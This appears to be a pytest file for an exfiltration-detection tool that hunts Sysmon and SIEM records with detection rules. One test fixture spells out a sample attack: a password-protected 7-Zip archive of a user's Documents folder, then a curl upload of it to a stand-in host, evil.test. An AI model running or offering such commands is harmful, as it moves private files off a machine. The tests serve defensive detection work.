"""Hunting in files and in a SIEM: the same findings as detection in one pass, whatever was polled."""

import asyncio
import json
from datetime import datetime
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from tests.polling.memory_siem import MemorySiem, Stored, events

from exfilwatch.detection.engine import Engine
from exfilwatch.detection.rule import RuleSet
from exfilwatch.errors import ConfigError, PartialResult, Unreachable
from exfilwatch.events.report import Report
from exfilwatch.findings.finding import Finding, finding
from exfilwatch.polling.hunting import hunt_siem
from exfilwatch.polling.slices import Interval
from exfilwatch.siem.siem import SECOND

from .kept import did, found, in_files, in_memory

DEMO = files("exfilwatch_playbooks.demo").joinpath("data")


def records(path: Path) -> list[Stored]:
    """The lines of a flat Sysmon file as a SIEM has them, under Sigma's names."""
    made = []
    for line in path.read_text().splitlines():
        fields = json.loads(line)
        time = round(datetime.fromisoformat(fields["@timestamp"]).timestamp() * SECOND)
        category = {1: "process_creation", 3: "network_connection"}[fields["EventID"]]
        document = fields | {"product": "windows", "category": category, "Computer": fields["Hostname"]}
        document |= {"time": time / SECOND, "ingest_time": time / SECOND}
        del document["@timestamp"], document["EventID"]
        made.append(Stored(time, time, time, json.dumps(document).encode()))
    return made


def at_once(siem: MemorySiem, rules: RuleSet) -> list[str]:
    return sorted({finding(each).id for each in Engine(rules, Report()).detect(events(siem.records))})


@pytest.fixture
def siem(logs: Path) -> MemorySiem:
    made = MemorySiem(records(logs))
    made.clock = made.records[-1].time + 3600 * SECOND
    return made


def test_files_give_what_detection_gives(logs: Path, tmp_path: Path, rules: RuleSet) -> None:
    work = in_files(tmp_path, rules, logs)
    tried = did("hunt", work, dry_run=True)
    assert (tried.found, tried.new, tried.changed) == (2, 2, True)
    assert work.store.find() == []
    first = did("hunt", work)
    assert [each.id for each in work.store.find()] == [each.id for each in first.findings]
    assert {each.id for each in first.findings} == {each.id for each in found(logs, rules)}
    again = did("hunt", work)
    assert (again.found, again.new, again.changed) == (2, 0, False)
    assert did("hunt", work, dry_run=True).changed is False


@pytest.mark.parametrize(
    ("given", "count"),
    [
        ({"since": "2026-03-12T09:00:10Z"}, 1),
        ({"until": "2026-03-12T09:00:10Z"}, 1),
        ({"until": "2026-03-12T09:00:02Z"}, 0),
        ({"hosts": "ws-07.corp.example, other"}, 2),
        ({"hosts": "ws-08"}, 0),
        ({"users": "ANNA@corp.example"}, 2),
        ({"users": "bob"}, 0),
        ({"rules": "transfer_tool"}, 2),
        ({"rules": "scripting_engine"}, 0),
    ],
)
def test_a_hunt_is_narrowed(given: dict[str, str], count: int, logs: Path, tmp_path: Path, rules: RuleSet) -> None:
    assert did("hunt", in_files(tmp_path, rules, logs), **given).found == count


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ({"since": "1h", "until": "2h"}, "is not before until"),
        ({"rules": "no such rule"}, "no rule has the id, title or branch"),
        ({"siem": "main"}, "there is no siem 'main': use files"),
    ],
)
def test_what_can_not_be_hunted_is_said(
    given: dict[str, str], said: str, logs: Path, tmp_path: Path, rules: RuleSet
) -> None:
    with pytest.raises(ConfigError, match=said):
        did("hunt", in_files(tmp_path, rules, logs), **given)


def test_a_siem_gives_the_same(siem: MemorySiem, tmp_path: Path, rules: RuleSet) -> None:
    answer = did("hunt", in_memory(tmp_path, rules, siem))
    assert sorted(each.id for each in answer.findings) == at_once(siem, rules)
    assert len(answer.findings) == 2
    assert all(ask.rules is not None for ask in siem.asked)


@pytest.mark.parametrize("cap", [None, 2])
def test_sequences_are_found_over_slices(cap: int | None, rules: RuleSet, tmp_path: Path) -> None:
    """An archive, then a connection; the SIEM is asked in slices of a minute, and gives few records at once."""
    start = 1_767_225_600 * SECOND
    made = [
        _process(start, r"C:\Program Files\7-Zip\7z.exe", r"7z a -pX C:\Users\Public\x.7z C:\Users\anna\Documents"),
        _process(
            start + 70 * SECOND,
            r"C:\Windows\System32\curl.exe",
            r"curl.exe -T C:\Users\Public\x.7z https://evil.test/u",
        ),
        _connection(start + 71 * SECOND),
    ]
    siem = MemorySiem(made, cap=cap, slice="1m")
    siem.clock = start + 600 * SECOND
    work = in_memory(tmp_path, rules, siem)
    answer = did("hunt", work, since="2025-12-31", until="2026-01-02")
    assert sorted(each.id for each in answer.findings) == at_once(siem, rules)
    assert len(answer.findings) > 1
    assert answer.problems == []


def _process(time: int, image: str, command: str) -> Stored:
    return _stored(time, category="process_creation", Image=image, CommandLine=command, User=r"CORP\anna")


def _connection(time: int) -> Stored:
    return _stored(
        time, category="network_connection", Image=r"C:\Windows\System32\curl.exe", DestinationIp="203.0.113.9",
        DestinationPort="443", Initiated="true", User=r"CORP\anna",
    )  # fmt: skip


def _stored(time: int, **fields: str) -> Stored:
    document = {
        "product": "windows",
        "time": time / SECOND,
        "ingest_time": time / SECOND,
        "Computer": "WS-07",
        **fields,
    }
    return Stored(time, time, time, json.dumps(document).encode())


def test_what_can_not_be_read_costs_only_itself(siem: MemorySiem, logs: Path, tmp_path: Path, rules: RuleSet) -> None:
    siem.faults = [(0, Unreachable("memory: no answer"))]
    work = in_memory(tmp_path, rules, siem)
    work.settings.siem["files"] = {"kind": "files", "paths": [str(logs)]}
    answer = did("hunt", work)
    assert (answer.found, answer.problems) == (2, ["memory: no answer"])


def test_an_answer_that_is_never_whole_is_told(siem: MemorySiem, rules: RuleSet) -> None:
    siem.faults = [(0, PartialResult("memory: shards failed", smaller=False))]
    span = Interval(siem.records[0].time, siem.clock)
    hunted: Any = asyncio.run(hunt_siem(siem, rules, span, Report()))
    assert len(hunted.problems) == 1
    assert "shards failed" in hunted.problems[0]


def test_the_demo_is_hunted_as_it_is_detected(tmp_path: Path, rules: RuleSet) -> None:
    path = Path(str(DEMO)) / "scenario-1-powershell.jsonl"
    work = in_files(tmp_path, rules, path)
    answer = did("hunt", work, since="2020-01-01", until="2030-01-01")
    expected: list[Finding] = found(path, rules)
    assert sorted(each.id for each in answer.findings) == sorted({each.id for each in expected})
